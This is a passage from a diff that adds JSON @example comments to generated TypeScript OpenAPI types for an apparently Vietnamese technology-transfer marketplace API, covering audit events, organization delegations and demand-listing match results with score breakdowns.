+                     *           "owningOrganizationId": "cf9e73d3-428a-4222-9ce5-d3e82e8f4a95",
+                     *           "operation": "organization.update",
+                     *           "targetType": "organization",
+                     *           "targetId": "cf9e73d3-428a-4222-9ce5-d3e82e8f4a95",
+                     *           "changes": {
+                     *             "website": {
+                     *               "before": null,
+                     *               "after": "https://beta.edu.vn"
+                     *             }
+                     *           }
+                     *         },
+                     *         {
+                     *           "id": "3",
+                     *           "occurredAt": "2026-03-05T03:00:00.000Z",
+                     *           "requestId": "1c805d80-0c8f-4a4f-9d9d-6423dcd5c848",
+                     *           "keyId": "2d522d75-4161-4f99-9f9b-2bcc315d919b",
+                     *           "actingOrganizationId": "cf9e73d3-428a-4222-9ce5-d3e82e8f4a95",
+                     *           "owningOrganizationId": "cf9e73d3-428a-4222-9ce5-d3e82e8f4a95",
+                     *           "operation": "listing.create",
+                     *           "targetType": "listing",
+                     *           "targetId": "fd6e3078-2e03-4995-bb45-ed8beba44a8a",
+                     *           "changes": {
+                     *             "id": {
+                     *               "after": "fd6e3078-2e03-4995-bb45-ed8beba44a8a"
+                     *             },
+                     *             "trl": {
+                     *               "after": 7
+                     *             },
+                     *             "kind": {
+                     *               "after": "technology"
+                     *             },
+                     *             "media": {
+                     *               "after": [
+                     *                 {
+                     *                   "url": "https://example.vn/lua.jpg",
+                     *                   "kind": "image",
+                     *                   "title": "Cánh đồng lúa"
+                     *                 }
+                     *               ]
+                     *             },
+                     *             "owner": {
+                     *               "after": {
+                     *                 "id": "cf9e73d3-428a-4222-9ce5-d3e82e8f4a95",
+                     *                 "kind": "university",
+                     *                 "name": "Trường Đại học Beta"
+                     *               }
+                     *             },
+                     *             "fields": {
+                     *               "after": [
+                     *                 "4"
+                     *               ]
+                     *             },
+                     *             "status": {
+                     *               "after": "draft"
+                     *             },
+                     *             "sectors": {
+                     *               "after": [
+                     *                 "A"
+                     *               ]
+                     *             },
+                     *             "titleEn": {
+                     *               "after": "Organic rice production process"
+                     *             },
+                     *             "titleVi": {
+                     *               "after": "Quy trình sản xuất lúa gạo hữu cơ"
+                     *             },
+                     *             "contacts": {
+                     *               "after": []
+                     *             },
+                     *             "keywords": {
+                     *               "after": [
+                     *                 "lúa hữu cơ",
+                     *                 "nông nghiệp sạch"
+                     *               ]
+                     *             },
+                     *             "priceVnd": {
+                     *               "after": 250000000
+                     *             },
+                     *             "redacted": {
+                     *               "after": []
+                     *             },
+                     *             "anonymous": {
+                     *               "after": false
+                     *             },
+                     *             "createdAt": {
+                     *               "after": "2026-03-05T03:00:00.000Z"
+                     *             },
+                     *             "iprStatus": {
+                     *               "after": "patent_granted"
+                     *             },
+                     *             "priceType": {
+                     *               "after": "amount"
+                     *             },
+                     *             "disclosure": {
+                     *               "after": {
+                     *                 "contacts": false,
+                     *                 "iprNumbers": false
+                     *               }
+                     *             },
+                     *             "iprNumbers": {
+                     *               "after": [
+                     *                 "1-0023456"
+                     *               ]
+                     *             },
+                     *             "provenance": {
+                     *               "after": {
+                     *                 "source": "tech-exchange",
+                     *                 "globalId": "tech-exchange:listing:fd6e3078-2e03-4995-bb45-ed8beba44a8a",
+                     *                 "externalId": null
+                     *               }
+                     *             },
+                     *             "validUntil": {
+                     *               "after": "2026-12-31"
+                     *             },
+                     *             "moderatedAt": {
+                     *               "after": null
+                     *             },
+                     *             "publishedAt": {
+                     *               "after": null
+                     *             },
+                     *             "withdrawnAt": {
+                     *               "after": null
+                     *             },
+                     *             "descriptionEn": {
+                     *               "after": null
+                     *             },
+                     *             "descriptionVi": {
+                     *               "after": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng."
+                     *             },
+                     *             "provinceCodes": {
+                     *               "after": [
+                     *                 "36"
+                     *               ]
+                     *             },
+                     *             "transferForms": {
+                     *               "after": [
+                     *                 "standalone",
+                     *                 "ip_transfer"
+                     *               ]
+                     *             },
+                     *             "withdrawReason": {
+                     *               "after": null
+                     *             },
+                     *             "transferMethods": {
+                     *               "after": [
+                     *                 "technical_documents",
+                     *                 "training"
+                     *               ]
+                     *             },
+                     *             "moderationReason": {
+                     *               "after": null
+                     *             },
+                     *             "currentProvinceCodes": {
+                     *               "after": [
+                     *                 "37"
+                     *               ]
+                     *             }
+                     *           }
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["AuditEventPage"];
                 };
             };
@@ -10134,6 +11917,156 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "3",
+                     *       "occurredAt": "2026-03-05T03:00:00.000Z",
+                     *       "requestId": "1c805d80-0c8f-4a4f-9d9d-6423dcd5c848",
+                     *       "keyId": "2d522d75-4161-4f99-9f9b-2bcc315d919b",
+                     *       "actingOrganizationId": "cf9e73d3-428a-4222-9ce5-d3e82e8f4a95",
+                     *       "owningOrganizationId": "cf9e73d3-428a-4222-9ce5-d3e82e8f4a95",
+                     *       "operation": "listing.create",
+                     *       "targetType": "listing",
+                     *       "targetId": "fd6e3078-2e03-4995-bb45-ed8beba44a8a",
+                     *       "changes": {
+                     *         "id": {
+                     *           "after": "fd6e3078-2e03-4995-bb45-ed8beba44a8a"
+                     *         },
+                     *         "trl": {
+                     *           "after": 7
+                     *         },
+                     *         "kind": {
+                     *           "after": "technology"
+                     *         },
+                     *         "media": {
+                     *           "after": [
+                     *             {
+                     *               "url": "https://example.vn/lua.jpg",
+                     *               "kind": "image",
+                     *               "title": "Cánh đồng lúa"
+                     *             }
+                     *           ]
+                     *         },
+                     *         "owner": {
+                     *           "after": {
+                     *             "id": "cf9e73d3-428a-4222-9ce5-d3e82e8f4a95",
+                     *             "kind": "university",
+                     *             "name": "Trường Đại học Beta"
+                     *           }
+                     *         },
+                     *         "fields": {
+                     *           "after": [
+                     *             "4"
+                     *           ]
+                     *         },
+                     *         "status": {
+                     *           "after": "draft"
+                     *         },
+                     *         "sectors": {
+                     *           "after": [
+                     *             "A"
+                     *           ]
+                     *         },
+                     *         "titleEn": {
+                     *           "after": "Organic rice production process"
+                     *         },
+                     *         "titleVi": {
+                     *           "after": "Quy trình sản xuất lúa gạo hữu cơ"
+                     *         },
+                     *         "contacts": {
+                     *           "after": []
+                     *         },
+                     *         "keywords": {
+                     *           "after": [
+                     *             "lúa hữu cơ",
+                     *             "nông nghiệp sạch"
+                     *           ]
+                     *         },
+                     *         "priceVnd": {
+                     *           "after": 250000000
+                     *         },
+                     *         "redacted": {
+                     *           "after": []
+                     *         },
+                     *         "anonymous": {
+                     *           "after": false
+                     *         },
+                     *         "createdAt": {
+                     *           "after": "2026-03-05T03:00:00.000Z"
+                     *         },
+                     *         "iprStatus": {
+                     *           "after": "patent_granted"
+                     *         },
+                     *         "priceType": {
+                     *           "after": "amount"
+                     *         },
+                     *         "disclosure": {
+                     *           "after": {
+                     *             "contacts": false,
+                     *             "iprNumbers": false
+                     *           }
+                     *         },
+                     *         "iprNumbers": {
+                     *           "after": [
+                     *             "1-0023456"
+                     *           ]
+                     *         },
+                     *         "provenance": {
+                     *           "after": {
+                     *             "source": "tech-exchange",
+                     *             "globalId": "tech-exchange:listing:fd6e3078-2e03-4995-bb45-ed8beba44a8a",
+                     *             "externalId": null
+                     *           }
+                     *         },
+                     *         "validUntil": {
+                     *           "after": "2026-12-31"
+                     *         },
+                     *         "moderatedAt": {
+                     *           "after": null
+                     *         },
+                     *         "publishedAt": {
+                     *           "after": null
+                     *         },
+                     *         "withdrawnAt": {
+                     *           "after": null
+                     *         },
+                     *         "descriptionEn": {
+                     *           "after": null
+                     *         },
+                     *         "descriptionVi": {
+                     *           "after": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng."
+                     *         },
+                     *         "provinceCodes": {
+                     *           "after": [
+                     *             "36"
+                     *           ]
+                     *         },
+                     *         "transferForms": {
+                     *           "after": [
+                     *             "standalone",
+                     *             "ip_transfer"
+                     *           ]
+                     *         },
+                     *         "withdrawReason": {
+                     *           "after": null
+                     *         },
+                     *         "transferMethods": {
+                     *           "after": [
+                     *             "technical_documents",
+                     *             "training"
+                     *           ]
+                     *         },
+                     *         "moderationReason": {
+                     *           "after": null
+                     *         },
+                     *         "currentProvinceCodes": {
+                     *           "after": [
+                     *             "37"
+                     *           ]
+                     *         }
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["AuditEvent"];
                 };
             };
@@ -10267,6 +12200,47 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "26183d3e-0bc9-413a-ad5f-f0abec56d172",
+                     *           "agentOrganizationId": "5ee541ee-5803-4fe5-9905-e249de5fc61a",
+                     *           "memberOrganizationId": "16d1d798-88ff-431c-928b-37c0ed3b9f11",
+                     *           "status": "expired",
+                     *           "active": false,
+                     *           "origin": "proposal",
+                     *           "basis": null,
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "createdByKeyId": "16454e1d-6e0f-4a23-aa2d-90f6944b4c8c",
+                     *           "expiresAt": "2026-03-16T03:00:00.000Z",
+                     *           "acceptedAt": null,
+                     *           "acceptedByKeyId": null,
+                     *           "endedAt": "2026-03-16T03:00:00.000Z",
+                     *           "endedByOrganizationId": null,
+                     *           "endReason": "expired"
+                     *         },
+                     *         {
+                     *           "id": "0b6fc160-f4e8-4ad5-8b59-07e2a22e0051",
+                     *           "agentOrganizationId": "5ee541ee-5803-4fe5-9905-e249de5fc61a",
+                     *           "memberOrganizationId": "d0d80571-e056-4061-8a7d-5709a79b9b0f",
+                     *           "status": "expired",
+                     *           "active": false,
+                     *           "origin": "proposal",
+                     *           "basis": null,
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "createdByKeyId": "16454e1d-6e0f-4a23-aa2d-90f6944b4c8c",
+                     *           "expiresAt": "2026-03-16T03:00:00.000Z",
+                     *           "acceptedAt": null,
+                     *           "acceptedByKeyId": null,
+                     *           "endedAt": "2026-03-16T03:00:00.000Z",
+                     *           "endedByOrganizationId": null,
+                     *           "endReason": "expired"
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["DelegationPage"];
                 };
             };
@@ -10363,6 +12337,11 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "memberOrganizationId": "df2beb02-25b8-453b-8dcc-20f60edb010d"
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateDelegationRequest"];
             };
         };
@@ -10379,6 +12358,25 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "15c709ab-f8fb-4b7d-ab55-89068ac6070e",
+                     *       "agentOrganizationId": "be3e6dc8-2d48-4f0a-9e62-1c470f009770",
+                     *       "memberOrganizationId": "df2beb02-25b8-453b-8dcc-20f60edb010d",
+                     *       "status": "proposed",
+                     *       "active": false,
+                     *       "origin": "proposal",
+                     *       "basis": null,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdByKeyId": "72b4a5a3-b348-44cf-b5b3-d4f149489a1d",
+                     *       "expiresAt": "2026-03-16T03:00:00.000Z",
+                     *       "acceptedAt": null,
+                     *       "acceptedByKeyId": null,
+                     *       "endedAt": null,
+                     *       "endedByOrganizationId": null,
+                     *       "endReason": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["Delegation"];
                 };
             };
@@ -10531,6 +12529,25 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "26183d3e-0bc9-413a-ad5f-f0abec56d172",
+                     *       "agentOrganizationId": "5ee541ee-5803-4fe5-9905-e249de5fc61a",
+                     *       "memberOrganizationId": "16d1d798-88ff-431c-928b-37c0ed3b9f11",
+                     *       "status": "expired",
+                     *       "active": false,
+                     *       "origin": "proposal",
+                     *       "basis": null,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdByKeyId": "16454e1d-6e0f-4a23-aa2d-90f6944b4c8c",
+                     *       "expiresAt": "2026-03-16T03:00:00.000Z",
+                     *       "acceptedAt": null,
+                     *       "acceptedByKeyId": null,
+                     *       "endedAt": "2026-03-16T03:00:00.000Z",
+                     *       "endedByOrganizationId": null,
+                     *       "endReason": "expired"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Delegation"];
                 };
             };
@@ -10654,6 +12671,25 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "15c709ab-f8fb-4b7d-ab55-89068ac6070e",
+                     *       "agentOrganizationId": "be3e6dc8-2d48-4f0a-9e62-1c470f009770",
+                     *       "memberOrganizationId": "df2beb02-25b8-453b-8dcc-20f60edb010d",
+                     *       "status": "active",
+                     *       "active": true,
+                     *       "origin": "proposal",
+                     *       "basis": null,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdByKeyId": "72b4a5a3-b348-44cf-b5b3-d4f149489a1d",
+                     *       "expiresAt": "2026-03-16T03:00:00.000Z",
+                     *       "acceptedAt": "2026-03-02T03:00:00.000Z",
+                     *       "acceptedByKeyId": "24a65581-550d-4916-81da-d0099945c4bb",
+                     *       "endedAt": null,
+                     *       "endedByOrganizationId": null,
+                     *       "endReason": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["Delegation"];
                 };
             };
@@ -10808,6 +12844,11 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "reason": "Chúng tôi không đề nghị"
+                 *     }
+                 */
                 "application/json": components["schemas"]["DeclineDelegationRequest"];
             };
         };
@@ -10823,6 +12864,25 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "59488203-bcbf-4ff4-9da4-0a7d248059e8",
+                     *       "agentOrganizationId": "03e51182-30b8-48f3-8d05-293eccd0262f",
+                     *       "memberOrganizationId": "1c999098-4850-4410-9863-802169345bd3",
+                     *       "status": "declined",
+                     *       "active": false,
+                     *       "origin": "proposal",
+                     *       "basis": null,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdByKeyId": "ce9892c0-1d7f-4859-a516-50b06fa02f48",
+                     *       "expiresAt": "2026-03-16T03:00:00.000Z",
+                     *       "acceptedAt": null,
+                     *       "acceptedByKeyId": null,
+                     *       "endedAt": "2026-03-02T03:00:00.000Z",
+                     *       "endedByOrganizationId": "1c999098-4850-4410-9863-802169345bd3",
+                     *       "endReason": "Chúng tôi không đề nghị"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Delegation"];
                 };
             };
@@ -10977,6 +13037,11 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "reason": "Tự quản lý"
+                 *     }
+                 */
                 "application/json": components["schemas"]["EndDelegationRequest"];
             };
         };
@@ -10992,6 +13057,25 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "43ca4268-dba8-4647-becb-80189eb1f1f2",
+                     *       "agentOrganizationId": "84cec972-512b-4885-99ad-7bcb7b9445cf",
+                     *       "memberOrganizationId": "b961aec9-2b31-4f35-8ecd-9137019c9297",
+                     *       "status": "ended",
+                     *       "active": false,
+                     *       "origin": "proposal",
+                     *       "basis": null,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdByKeyId": "30c1e19f-e01d-4174-a3d0-9983babc720d",
+                     *       "expiresAt": "2026-03-16T03:00:00.000Z",
+                     *       "acceptedAt": "2026-03-02T03:00:00.000Z",
+                     *       "acceptedByKeyId": "255d3c26-58e2-49a6-9976-875f2ef11c8b",
+                     *       "endedAt": "2026-03-02T03:00:00.000Z",
+                     *       "endedByOrganizationId": "b961aec9-2b31-4f35-8ecd-9137019c9297",
+                     *       "endReason": "Tự quản lý"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Delegation"];
                 };
             };
@@ -11164,6 +13248,324 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "10f09120-7bc9-4c79-95cc-5404432e024e",
+                     *           "demandId": "65e89b0d-323b-44d2-a35a-ef9ad9211761",
+                     *           "listingId": "ba89a27d-bc5b-40a1-806c-fcf1320b3222",
+                     *           "status": "suggested",
+                     *           "origin": "computed",
+                     *           "score": 0.837,
+                     *           "explanation": {
+                     *             "text": {
+                     *               "weight": 0.75,
+                     *               "value": 0.7342,
+                     *               "matchedTerms": [
+                     *                 {
+                     *                   "term": "10",
+                     *                   "weight": 0.0807,
+                     *                   "field": "title",
+                     *                   "origin": "query"
+                     *                 },
+                     *                 {
+                     *                   "term": "10 tan",
+                     *                   "weight": 0.0565,
+                     *                   "field": "title",
+                     *                   "origin": "query"
+                     *                 }
+                     *               ],
+                     *               "termCount": 75,
+                     *               "coverage": 0.2419,
+                     *               "corrections": [
+                     *                 {
+                     *                   "from": "xuong",
+                     *                   "to": "ruong"
+                     *                 },
+                     *                 {
+                     *                   "from": "nang",
+                     *                   "to": "nong"
+                     *                 }
+                     *               ],
+                     *               "thesaurus": [
+                     *                 {
+                     *                   "entryId": "50cdc658-faf8-42d3-8a2f-db7af507f261",
+                     *                   "matched": "may say",
+                     *                   "added": [
+                     *                     {
+                     *                       "phrase": "lo say",
+                     *                       "weight": 1
+                     *                     },
+                     *                     {
+                     *                       "phrase": "thiet bi say",
+                     *                       "weight": 1
+                     *                     }
+                     *                   ]
+                     *                 },
+                     *                 {
+                     *                   "entryId": "883d17ea-3adb-4d35-a5e1-60e540910a98",
+                     *                   "matched": "rice",
+                     *                   "added": [
+                     *                     {
+                     *                       "phrase": "lua gao",
+                     *                       "weight": 1
+                     *                     },
+                     *                     {
+                     *                       "phrase": "paddy rice",
+                     *                       "weight": 1
+                     *                     }
+                     *                   ]
+                     *                 }
+                     *               ]
+                     *             },
+                     *             "taxonomy": {
+                     *               "weight": 0.08,
+                     *               "value": 0.75,
+                     *               "sharedSectors": [
+                     *                 "A"
+                     *               ],
+                     *               "sharedFields": [
+                     *                 "4"
+                     *               ]
+                     *             },
+                     *             "trl": {
+                     *               "weight": 0.08,
+                     *               "value": 1,
+                     *               "listingTrl": 7,
+                     *               "minTrl": 6,
+                     *               "gap": 0
+                     *             },
+                     *             "location": {
+                     *               "weight": 0.04,
+                     *               "value": 1,
+                     *               "distanceClass": "same_province",
+                     *               "demandProvince": "37",
+                     *               "listingProvinces": [
+                     *                 "37"
+                     *               ]
+                     *             },
+                     *             "price": {
+                     *               "weight": 0.03,
+                     *               "value": 1,
+                     *               "fit": "within_budget",
+                     *               "priceType": "amount",
+                     *               "priceVnd": 250000000,
+                     *               "budgetMinVnd": 500000000,
+                     *               "budgetMaxVnd": 2000000000
+                     *             },
+                     *             "multiplier": 1.14,
+                     *             "freshness": {
+                     *               "weight": 0.02,
+                     *               "value": 1,
+                     *               "ageDays": 0
+                     *             }
+                     *           },
+                     *           "proposedBy": null,
+                     *           "proposalNote": null,
+                     *           "dismissReason": null,
+                     *           "dismissNote": null,
+                     *           "decidedAt": null,
+                     *           "computedAt": "2026-03-02T03:00:00.000Z",
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *           "version": 1,
+                     *           "listing": {
+                     *             "id": "ba89a27d-bc5b-40a1-806c-fcf1320b3222",
+                     *             "status": "published",
+                     *             "kind": "technology",
+                     *             "titleVi": "Máy sấy lúa tầng sôi công suất 10 tấn/mẻ",
+                     *             "titleEn": "Organic rice production process",
+                     *             "trl": 7,
+                     *             "priceType": "amount",
+                     *             "priceVnd": 250000000,
+                     *             "sectors": [
+                     *               "A"
+                     *             ],
+                     *             "fields": [
+                     *               "4"
+                     *             ],
+                     *             "provinceCodes": [
+                     *               "36"
+                     *             ],
+                     *             "currentProvinceCodes": [
+                     *               "37"
+                     *             ],
+                     *             "owner": {
+                     *               "id": "09e0318b-f9a7-4c49-8fbd-600467ba4b19",
+                     *               "name": "Viện Cơ điện Nông nghiệp",
+                     *               "kind": "research_institute"
+                     *             },
+                     *             "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *             "validUntil": "2026-12-31",
+                     *             "provenance": {
+                     *               "source": "tech-exchange",
+                     *               "externalId": null,
+                     *               "globalId": "tech-exchange:listing:ba89a27d-bc5b-40a1-806c-fcf1320b3222"
+                     *             },
+                     *             "redacted": []
+                     *           }
+                     *         },
+                     *         {
+                     *           "id": "f8a1c448-be4f-441c-9481-83ca2066da3f",
+                     *           "demandId": "65e89b0d-323b-44d2-a35a-ef9ad9211761",
+                     *           "listingId": "a899abf7-ccfd-418d-aba4-d5020561adca",
+                     *           "status": "suggested",
+                     *           "origin": "computed",
+                     *           "score": 0.1445,
+                     *           "explanation": {
+                     *             "text": {
+                     *               "weight": 0.75,
+                     *               "value": 0.1268,
+                     *               "matchedTerms": [
+                     *                 {
+                     *                   "term": "say",
+                     *                   "weight": 0.227,
+                     *                   "field": "both",
+                     *                   "origin": "query"
+                     *                 },
+                     *                 {
+                     *                   "term": "say lua",
+                     *                   "weight": 0.227,
+                     *                   "field": "both",
+                     *                   "origin": "query"
+                     *                 }
+                     *               ],
+                     *               "termCount": 75,
+                     *               "coverage": 0.0337,
+                     *               "corrections": [
+                     *                 {
+                     *                   "from": "xuong",
+                     *                   "to": "ruong"
+                     *                 },
+                     *                 {
+                     *                   "from": "nang",
+                     *                   "to": "nong"
+                     *                 }
+                     *               ],
+                     *               "thesaurus": [
+                     *                 {
+                     *                   "entryId": "50cdc658-faf8-42d3-8a2f-db7af507f261",
+                     *                   "matched": "may say",
+                     *                   "added": [
+                     *                     {
+                     *                       "phrase": "lo say",
+                     *                       "weight": 1
+                     *                     },
+                     *                     {
+                     *                       "phrase": "thiet bi say",
+                     *                       "weight": 1
+                     *                     }
+                     *                   ]
+                     *                 },
+                     *                 {
+                     *                   "entryId": "883d17ea-3adb-4d35-a5e1-60e540910a98",
+                     *                   "matched": "rice",
+                     *                   "added": [
+                     *                     {
+                     *                       "phrase": "lua gao",
+                     *                       "weight": 1
+                     *                     },
+                     *                     {
+                     *                       "phrase": "paddy rice",
+                     *                       "weight": 1
+                     *                     }
+                     *                   ]
+                     *                 }
+                     *               ]
+                     *             },
+                     *             "taxonomy": {
+                     *               "weight": 0.08,
+                     *               "value": 0.75,
+                     *               "sharedSectors": [
+                     *                 "A"
+                     *               ],
+                     *               "sharedFields": [
+                     *                 "4"
+                     *               ]
+                     *             },
+                     *             "trl": {
+                     *               "weight": 0.08,
+                     *               "value": 1,
+                     *               "listingTrl": 7,
+                     *               "minTrl": 6,
+                     *               "gap": 0
+                     *             },
+                     *             "location": {
+                     *               "weight": 0.04,
+                     *               "value": 1,
+                     *               "distanceClass": "same_province",
+                     *               "demandProvince": "37",
+                     *               "listingProvinces": [
+                     *                 "37"
+                     *               ]
+                     *             },
+                     *             "price": {
+                     *               "weight": 0.03,
+                     *               "value": 1,
+                     *               "fit": "within_budget",
+                     *               "priceType": "amount",
+                     *               "priceVnd": 250000000,
+                     *               "budgetMinVnd": 500000000,
+                     *               "budgetMaxVnd": 2000000000
+                     *             },
+                     *             "multiplier": 1.14,
+                     *             "freshness": {
+                     *               "weight": 0.02,
+                     *               "value": 1,
+                     *               "ageDays": 0
+                     *             }
+                     *           },
+                     *           "proposedBy": null,
+                     *           "proposalNote": null,
+                     *           "dismissReason": null,
+                     *           "dismissNote": null,
+                     *           "decidedAt": null,
+                     *           "computedAt": "2026-03-02T03:00:00.000Z",
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *           "version": 1,
+                     *           "listing": {
+                     *             "id": "a899abf7-ccfd-418d-aba4-d5020561adca",
+                     *             "status": "published",
+                     *             "kind": "technology",
+                     *             "titleVi": "Máy sấy lúa tầng sôi di động",
+                     *             "titleEn": "Organic rice production process",
+                     *             "trl": 7,
+                     *             "priceType": "amount",
+                     *             "priceVnd": 250000000,
+                     *             "sectors": [
+                     *               "A"
+                     *             ],
+                     *             "fields": [
+                     *               "4"
+                     *             ],
+                     *             "provinceCodes": [
+                     *               "36"
+                     *             ],
+                     *             "currentProvinceCodes": [
+                     *               "37"
+                     *             ],
+                     *             "owner": {
+                     *               "id": "09e0318b-f9a7-4c49-8fbd-600467ba4b19",
+                     *               "name": "Viện Cơ điện Nông nghiệp",
+                     *               "kind": "research_institute"
+                     *             },
+                     *             "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *             "validUntil": "2026-12-31",
+                     *             "provenance": {
+                     *               "source": "tech-exchange",
+                     *               "externalId": null,
+                     *               "globalId": "tech-exchange:listing:a899abf7-ccfd-418d-aba4-d5020561adca"
+                     *             },
+                     *             "redacted": []
+                     *           }
+                     *         }
+                     *       ],
+                     *       "nextCursor": null,
+                     *       "computedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["MatchList"];
                 };
             };
@@ -11287,6 +13689,152 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "716b4819-b169-41d3-8f72-9bfc59568c45",
+                     *           "demandId": "aed11450-3e0a-466e-b370-d4b0fe9b7bd3",
+                     *           "listingId": "464103b8-5031-4579-9d2f-0e1a5b8da610",
+                     *           "status": "suggested",
+                     *           "origin": "computed",
+                     *           "score": 0.8396,
+                     *           "explanation": {
+                     *             "text": {
+                     *               "weight": 0.75,
+                     *               "value": 0.7196,
+                     *               "matchedTerms": [
+                     *                 {
+                     *                   "term": "hau",
+                     *                   "weight": 0.4488,
+                     *                   "field": "both",
+                     *                   "origin": "query"
+                     *                 },
+                     *                 {
+                     *                   "term": "xuat",
+                     *                   "weight": 0.1952,
+                     *                   "field": "title",
+                     *                   "origin": "correction",
+                     *                   "from": "suat"
+                     *                 }
+                     *               ],
+                     *               "termCount": 40,
+                     *               "coverage": 0.1304,
+                     *               "corrections": [
+                     *                 {
+                     *                   "from": "suat",
+                     *                   "to": "xuat"
+                     *                 },
+                     *                 {
+                     *                   "from": "dinh",
+                     *                   "to": "sinh"
+                     *                 }
+                     *               ],
+                     *               "thesaurus": [
+                     *                 {
+                     *                   "entryId": "969cb4c3-fdbd-4d8e-a3df-40a6304648f6",
+                     *                   "matched": "hau",
+                     *                   "added": [
+                     *                     {
+                     *                       "phrase": "oyster",
+                     *                       "weight": 1
+                     *                     }
+                     *                   ]
+                     *                 }
+                     *               ]
+                     *             },
+                     *             "taxonomy": {
+                     *               "weight": 0.08,
+                     *               "value": 1,
+                     *               "sharedSectors": [
+                     *                 "A"
+                     *               ],
+                     *               "sharedFields": [
+                     *                 "4"
+                     *               ]
+                     *             },
+                     *             "trl": {
+                     *               "weight": 0.08,
+                     *               "value": 1,
+                     *               "listingTrl": 7,
+                     *               "minTrl": 5,
+                     *               "gap": 0
+                     *             },
+                     *             "location": {
+                     *               "weight": 0.04,
+                     *               "value": 1,
+                     *               "distanceClass": "same_province",
+                     *               "demandProvince": "37",
+                     *               "listingProvinces": [
+                     *                 "37"
+                     *               ]
+                     *             },
+                     *             "price": {
+                     *               "weight": 0.03,
+                     *               "value": 1,
+                     *               "fit": "within_budget",
+                     *               "priceType": "amount",
+                     *               "priceVnd": 250000000,
+                     *               "budgetMinVnd": 500000000,
+                     *               "budgetMaxVnd": 2000000000
+                     *             },
+                     *             "multiplier": 1.1667,
+                     *             "freshness": {
+                     *               "weight": 0.02,
+                     *               "value": 1,
+                     *               "ageDays": 0
+                     *             }
+                     *           },
+                     *           "proposedBy": null,
+                     *           "proposalNote": null,
+                     *           "dismissReason": null,
+                     *           "dismissNote": null,
+                     *           "decidedAt": null,
+                     *           "computedAt": "2026-03-02T03:00:00.000Z",
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *           "version": 1,
+                     *           "listing": {
+                     *             "id": "464103b8-5031-4579-9d2f-0e1a5b8da610",
+                     *             "status": "published",
+                     *             "kind": "technology",
+                     *             "titleVi": "Sản xuất giống hàu tam bội",
+                     *             "titleEn": null,
+                     *             "trl": 7,
+                     *             "priceType": "amount",
+                     *             "priceVnd": 250000000,
+                     *             "sectors": [
+                     *               "A"
+                     *             ],
+                     *             "fields": [
+                     *               "4"
+                     *             ],
+                     *             "provinceCodes": [
+                     *               "36"
+                     *             ],
+                     *             "currentProvinceCodes": [
+                     *               "37"
+                     *             ],
+                     *             "owner": {
+                     *               "id": "6f97f44f-50a0-4fb4-a420-9800a994fdb3",
+                     *               "name": "Viện Nghiên cứu Nuôi trồng Thủy sản",
+                     *               "kind": "research_institute"
+                     *             },
+                     *             "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *             "validUntil": "2026-12-31",
+                     *             "provenance": {
+                     *               "source": "tech-exchange",
+                     *               "externalId": null,
+                     *               "globalId": "tech-exchange:listing:464103b8-5031-4579-9d2f-0e1a5b8da610"
+                     *             },
+                     *             "redacted": []
+                     *           }
+                     *         }
+                     *       ],
+                     *       "nextCursor": null,
+                     *       "computedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["MatchList"];
                 };
             };
@@ -11459,6 +14007,13 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [],
+                     *       "nextCursor": null,
+                     *       "computedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
